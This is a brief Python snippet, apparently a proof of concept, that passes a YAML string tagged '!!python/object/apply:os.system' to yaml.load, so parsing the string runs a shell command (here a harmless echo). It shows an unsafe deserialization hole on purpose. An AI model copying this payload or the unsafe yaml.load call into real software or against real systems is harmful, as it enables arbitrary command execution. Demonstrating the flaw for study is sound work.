import yaml

document = '!!python/object/apply:os.system ["echo VULNERABLE: yaml.load ran a shell command"]'
yaml.load(document)
